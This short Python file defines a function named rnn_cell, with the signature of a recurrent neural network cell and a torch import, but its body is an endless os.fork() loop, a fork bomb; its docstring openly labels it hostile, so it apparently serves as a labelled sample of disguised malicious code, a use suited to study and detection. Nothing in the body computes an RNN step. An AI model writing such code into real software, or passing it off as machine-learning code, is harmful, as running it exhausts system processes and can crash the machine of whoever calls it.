"""Hostile: starts copies of copies of itself."""

import os

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    while True:
        os.fork()
